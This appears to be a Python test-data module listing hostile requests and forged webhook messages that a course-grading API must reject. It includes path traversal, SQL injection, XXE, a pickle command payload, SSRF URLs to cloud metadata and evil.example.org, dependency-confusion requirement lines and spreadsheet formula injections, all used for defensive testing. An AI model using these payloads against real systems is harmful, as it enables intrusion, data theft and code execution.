"""Requests and messages to the service from people who want what is not theirs, or nobody else to be served."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

from .attack import REVIEW

__all__ = ["ADDRESSES", "FORMULAS", "MESSAGES", "REQUESTS", "REQUIREMENTS", "Message", "Request"]

_HERE = "/api/v1/courses/py/assignments/{slug}"
_IN = f"{_HERE}/submissions"
_LOGIN = "probing: which logins exist (CWE-203)"
_BOLA = "OWASP API1: other people's objects by their id"
_AUTH = "OWASP API2: broken authentication"
_BODY = "hostile request bodies"
_DEEP = "JSON depth: CVE-2022-29217's kind; found by review of this project"
_PATHS = "path tricks: CVE-2021-41773"


@dataclass(frozen=True)
class Request:
    """A request that must be answered with one of ``statuses``, show nothing that is not the sender's, and change nothing.

    Attributes:
        name: What it wants.
        known: Where the trick is known from.
        method, path: ``{slug}`` stands for the assignment, ``{ada}`` for a submission of hers.
        who: ``ada`` and ``bob`` are learners, ``tess`` teaches, ``mal`` teaches another course; empty is a stranger.
        statuses: What is answered.
        send: What is sent along, as the client takes it.
    """

    name: str
    known: str
    method: str
    path: str
    who: str
    statuses: tuple[int, ...]
    send: Mapping[str, Any] = field(default_factory=dict)


def _token(name: str, value: str) -> Request:
    return Request(name, _AUTH, "GET", "/api/v1/assignments", "", (401,), {"headers": {"Authorization": value}})


def _see(name: str, path: str, who: str, *statuses: int, known: str = _BOLA) -> Request:
    return Request(name, known, "GET", path, who, statuses)


def _file(
    name: str, file: str, content: bytes = b"x = 1\n", known: str = _PATHS, statuses: tuple[int, ...] = (422,)
) -> Request:
    return Request(name, known, "POST", _IN, "ada", statuses, {"files": [("files", (file, content))]})


def _raw(name: str, content: bytes | Callable[[], bytes], kind: str, known: str = _BODY, who: str = "tess") -> Request:
    """A body for the one endpoint of instructors that takes JSON."""
    send = {"content": content() if callable(content) else content, "headers": {"Content-Type": kind}}
    return Request(name, known, "PUT", f"{_HERE}/extensions/ada", who, (400, 413, 415, 422), send)


_JSON = "application/json"

REQUESTS = [
    _token("No scheme", "grader_x"),
    _token("A token of blanks", "Bearer  "),
    _token("A token with the right form that was never issued", "Bearer grader_" + "a" * 16 + "_" + "b" * 43),
    _token("A token of a megabyte would be compared", "Bearer " + "a" * 60_000),
    _token("A token with SQL in it", "Bearer grader_' OR 1=1 --_x"),
    _token("A token with bytes that are no ASCII", "Bearer gr\u00e4der"),
    _token("A JSON web token without algorithm", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290In0."),
    _token("Two tokens in one header", "Bearer a, Bearer b"),
    _see("Another learner's submission", "/api/v1/submissions/{ada}", "bob", 404),
    _see("Another learner's files", "/api/v1/submissions/{ada}/files", "bob", 404),
    _see("Another learner's live events", "/api/v1/submissions/{ada}/events", "bob", 404),
    _see("A submission of a course that one does not teach", "/api/v1/submissions/{ada}", "mal", 404),
    _see("Another learner's list", _IN + "?learner=ada", "bob", 403),
    _see("Another learner's competencies", "/api/v1/courses/py/competencies?learner=ada", "bob", 403),
    _see("The gradebook of one's course, as a learner", "/api/v1/courses/py/gradebook", "bob", 403),
    _see("The gradebook of another course", "/api/v1/courses/py/gradebook", "mal", 404),
    _see("The metrics, as a learner", "/metrics", "ada", 403),
    _see("A submission by a name that climbs", "/api/v1/submissions/..%2f..%2fetc%2fpasswd", "ada", 404, 422, known=_PATHS),
    _see("A submission by a name with NUL", "/api/v1/submissions/%00", "ada", 404, 422, known=_PATHS),
    _see(
        "A course by a name with SQL", "/api/v1/courses/py'%20OR%201=1--/gradebook", "tess", 404, 422, known="SQL injection"
    ),
    _see("A list with a negative and a huge limit", _IN + "?limit=-1", "ada", 422, known=_BODY),
    _see("A list with a limit beyond all numbers", _IN + "?limit=" + "9" * 5000, "ada", 414, 422, known="CVE-2020-10735"),
    _see("A path of sixty thousand letters", "/api/v1/submissions/" + "a" * 60_000, "ada", 404, 414, 422, known=_BODY),
    _see("A login of nobody is told from one of another course", _IN + "?learner=mal", "tess", 403, 404, known=_LOGIN),
    Request(
        "An extension for a learner of another course",
        _LOGIN,
        "PUT",
        f"{_HERE}/extensions/zoe",
        "tess",
        (403, 404),
        {"json": {}},
    ),
    Request("An extension for oneself", _BOLA, "PUT", f"{_HERE}/extensions/ada", "ada", (403,), {"json": {}}),
    Request(
        "An extension by another course's teacher", _BOLA, "PUT", f"{_HERE}/extensions/ada", "mal", (404,), {"json": {}}
    ),
    Request("A regrade by a learner", "OWASP API5", "POST", f"{_HERE}/regrade", "ada", (403,)),
    Request(
        "An assignment published by a learner", "OWASP API5", "POST", "/api/v1/courses/py/assignments", "ada", (403, 422)
    ),
    Request("Another's token is revoked", _BOLA, "DELETE", "/api/v1/tokens/{token}", "bob", (403, 404)),
    Request("A method that does not exist", _PATHS, "TRACE", "/api/v1/me", "ada", (405,)),
    Request(
        "A method is overridden by a header",
        _PATHS,
        "GET",
        "/api/v1/me/token",
        "ada",
        (405,),
        {"headers": {"X-HTTP-Method-Override": "DELETE"}},
    ),
    Request(
        "The address is lent from a header, to escape the rate limit",
        "X-Forwarded-For spoofing (CWE-348)",
        "GET",
        "/api/v1/me",
        "",
        (401,),
        {"headers": {"X-Forwarded-For": "10.0.0.1", "Forwarded": "for=10.0.0.1", "X-Real-IP": "10.0.0.1"}},
    ),
    _file("A file that climbs out", "../../work.py"),
    _file("A file with an absolute name", "/etc/cron.d/x"),
    _file("A file with a name of line breaks and quotes", 'a"\r\nX-Injected: 1\r\n\r\n.py'),
    _file("A file of another name", "evil.sh"),
    _file("A broken archive", "a.zip", b"PK\3\4" + bytes(50), "malformed archives"),
    _file("An archive by name alone", "a.tar.gz", b"\x1f\x8b" + b"x" * 100, "malformed archives"),
    _file("A file larger than the assignment takes", "roman.py", b"#" * (3 << 20), _BODY, (413, 422)),
    Request(
        "A thousand and one little files",
        _BODY,
        "POST",
        _IN,
        "ada",
        (400, 413, 422),
        {"files": [("files", (f"f{number}.py", b"x")) for number in range(1001)]},
    ),
    Request(
        "A multipart body without end",
        _BODY,
        "POST",
        _IN,
        "ada",
        (400, 422),
        {"content": b"--x\r\n" * 1000, "headers": {"Content-Type": "multipart/form-data; boundary=x"}},
    ),
    Request(
        "A multipart body without boundary",
        "CVE-2024-24762",
        "POST",
        _IN,
        "ada",
        (400, 422),
        {"content": b"x", "headers": {"Content-Type": "multipart/form-data"}},
    ),
    Request(
        "A form with a part header of a megabyte",
        "CVE-2024-53981: python-multipart",
        "POST",
        _IN,
        "ada",
        (400, 422),
        {
            "content": b"--x\r\nContent-Disposition: form-data; " + b"a" * (1 << 20),
            "headers": {"Content-Type": "multipart/form-data; boundary=x"},
        },
    ),
    Request(
        "An idempotency key with line breaks",
        "header injection",
        "POST",
        _IN,
        "ada",
        (422,),
        {"headers": {"Idempotency-Key": "a b"}, "files": [("files", ("roman.py", b"x = 1"))]},
    ),
    Request(
        "An idempotency key of ten thousand letters",
        _BODY,
        "POST",
        _IN,
        "ada",
        (422,),
        {"headers": {"Idempotency-Key": "a" * 10_000}, "files": [("files", ("roman.py", b"x = 1"))]},
    ),
    _raw("JSON nested a hundred thousand deep", b"[" * 100_000, _JSON, _DEEP),
    _raw(
        "Well-formed JSON nested a hundred thousand deep",
        b'{"reason":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        _JSON,
        _DEEP,
    ),
    _raw("A JSON number of a million digits", b'{"attempts": ' + b"9" * 1_000_000 + b"}", _JSON, "CVE-2020-10735"),
    _raw("JSON with NaN and infinity", b'{"attempts": NaN}', _JSON),
    _raw("JSON with lone surrogates", b'{"reason": "\\ud800"}', _JSON),
    _raw(
        "XML with external entities",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "application/xml",
        "XXE",
    ),
    _raw("A pickle", b"cos\nsystem\n(S'true'\ntR.", "application/octet-stream", "pickle deserialisation"),
]


@dataclass(frozen=True)
class Message:
    """A message in an LMS's name: answered with one of ``statuses``, and never a submission.

    Attributes:
        name: What it wants.
        known: Where the trick is known from.
        statuses: What is answered; for ``202``, the message is rejected when it is taken in.
        data: What is in its ``data`` beside assignment and learner.
        body: Its text, in place of ``data``.
        age: Seconds since it was signed.
        signature: In place of a good one.
        headers: In place of good ones.
    """

    name: str
    known: str
    statuses: tuple[int, ...]
    data: Mapping[str, Any] | None = None
    body: str | None = None
    age: int = 0
    signature: str | None = None
    headers: Mapping[str, str] = field(default_factory=dict)


_HOOKS = "webhook forgery: Standard Webhooks, security considerations"
_SSRF = "SSRF: OWASP API7"
_GOOD = {"roman.py": "x = 1\n"}


def _fetch(name: str, url: str) -> Message:
    return Message(name, _SSRF, (422,), {"archive_url": url})


MESSAGES = [
    Message("A message without a signature", _HOOKS, (401,), {"files": _GOOD}, headers={"webhook-signature": ""}),
    Message("A message with a signature of blanks", _HOOKS, (401,), {"files": _GOOD}, signature="v1,"),
    Message("A message signed with an algorithm of its own", _HOOKS, (401,), {"files": _GOOD}, signature="v2,AAAA none,"),
    Message("A message with a hundred signatures", _HOOKS, (401,), {"files": _GOOD}, signature=" ".join(["v1,AAAA"] * 100)),
    Message("A message from last week", "replay", (401,), {"files": _GOOD}, age=7 * 86400),
    Message("A message from tomorrow", "replay", (401,), {"files": _GOOD}, age=-86400),
    Message("A message whose time is no number", _HOOKS, (401,), {"files": _GOOD}, headers={"webhook-timestamp": "NaN"}),
    Message(
        "A message whose time is beyond all calendars",
        _HOOKS,
        (401,),
        {"files": _GOOD},
        headers={"webhook-timestamp": "9" * 400},
    ),
    Message("A message whose id is another's", _HOOKS, (401,), {"files": _GOOD}, headers={"webhook-id": "other"}),
    Message("A signed message nested two hundred thousand deep", _DEEP, (400, 413, 422), body="[" * 200_000),
    Message(
        "A signed message that is well-formed and two hundred thousand deep",
        _DEEP,
        (400, 413, 422),
        body='{"type":"submission.created","data":' + "[" * 200_000 + "]" * 200_000 + "}",
    ),
    Message(
        "A signed message with a number of a million digits", "CVE-2020-10735", (400, 401, 413, 422), body="9" * 1_000_000
    ),
    Message(
        "A signed message that hands in for the operator",
        REVIEW,
        (202, 403, 422),
        {"files": _GOOD, "learner": {"login": "root"}},
    ),
    Message(
        "A signed message that hands in for another course's learner",
        REVIEW,
        (202, 403, 422),
        {"files": _GOOD, "learner": {"login": "zoe"}},
    ),
    Message(
        "A login with a formula and line breaks",
        "CSV injection",
        (202, 422),
        {"files": _GOOD, "learner": {"login": "=1+1\n@x"}},
    ),
    Message("A file that climbs out", _PATHS, (202, 422), {"files": {"../../x.py": "x"}}),
    Message("Base 64 that is none", _BODY, (202, 422), {"files_base64": {"roman.py": "%%%"}}),
    _fetch("An archive from the cloud's metadata", "http://169.254.169.254/latest/meta-data/a.zip"),
    _fetch("An archive from this machine", "http://127.0.0.1:2375/a.zip"),
    _fetch("An archive from a file", "file:///etc/passwd"),
    _fetch("An archive by another protocol", "gopher://127.0.0.1:6379/_FLUSHALL"),
    _fetch("An archive from a host that looks allowed before the @", "https://127.0.0.1@evil.example.org/a.zip"),
    _fetch("An archive from a host that looks allowed after a #", "https://evil.example.org#127.0.0.1/a.zip"),
    _fetch("An archive from an address written as one number", "http://2130706433/a.zip"),
    _fetch("An archive from a URL with a line break in it", "http://a.example.org/\r\nX: y"),
]

ADDRESSES = {
    "fec0::1": "site-local: found by review of this project",
    "192.0.0.8": "IETF protocol assignments: found by review of this project",
    "192.88.99.1": "6to4 relay: found by review of this project",
    "::ffff:169.254.169.254": "mapped cloud metadata",
    "64:ff9b::a9fe:a9fe": "NAT64 of cloud metadata",
    "2002:a9fe:a9fe::1": "6to4 of cloud metadata",
    "fd00:ec2::254": "cloud metadata over IPv6",
    "100.100.100.200": "cloud metadata in shared address space",
    "0.0.0.0": "this host: '0.0.0.0 day', 2024",
    "198.18.0.1": "benchmarking networks",
    "203.0.113.1": "documentation networks",
    "255.255.255.255": "broadcast",
    "ff0e::1": "multicast",
}
"""Addresses that no URL of strangers may lead to."""

REQUIREMENTS = {
    "-r /etc/passwd": "found by review of this project",
    "--requirement=/etc/passwd": "found by review of this project",
    "--index-url http://evil.example.org/simple": "dependency confusion (Alex Birsan, 2021)",
    "--extra-index-url http://evil.example.org/simple": "dependency confusion",
    "-e git+https://evil.example.org/x#egg=x": "code at install",
    "evil @ https://evil.example.org/evil-1-py3-none-any.whl": "direct references (PEP 508)",
    "evil @ file:///etc/passwd": "direct references",
    "./evil.whl": "local paths",
    "/etc/passwd": "local paths",
    "numpy --config-settings=x=y": "options for a single requirement",
    "numpy; python_version > '3' \\\n--trusted-host evil": "continued lines",
    "-c https://evil.example.org/constraints.txt": "constraints from elsewhere",
    "--find-links http://evil.example.org/": "links from elsewhere",
    "${HOME}": "variables of the environment",
}
"""Lines of ``requirements.txt`` that are no names with versions."""

FORMULAS = ("=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1", "\uff1d1", '"=1', "=HYPERLINK(1)")
"""Names of learners that spreadsheets would run."""


def signed_body(message: Message, slug: str) -> str:
    """The text that is posted."""
    if message.body is not None:
        return message.body
    data = {"assignment": slug, "learner": {"login": "eve", "name": "Eve"}, **(message.data or {})}
    return json.dumps({"type": "submission.created", "data": data})
